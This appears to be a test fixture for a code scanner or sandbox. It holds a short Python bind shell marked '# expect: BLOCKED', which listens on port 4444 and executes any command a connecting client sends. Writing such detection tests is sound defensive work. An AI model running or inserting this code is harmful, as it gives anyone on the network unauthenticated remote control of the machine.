# expect: BLOCKED
import socket, subprocess
s = socket.socket()
s.bind(("0.0.0.0", 4444))
s.listen(1)
c, _ = s.accept()
while True:
    d = c.recv(1024)
    c.sendall(subprocess.getoutput(d.decode()).encode())
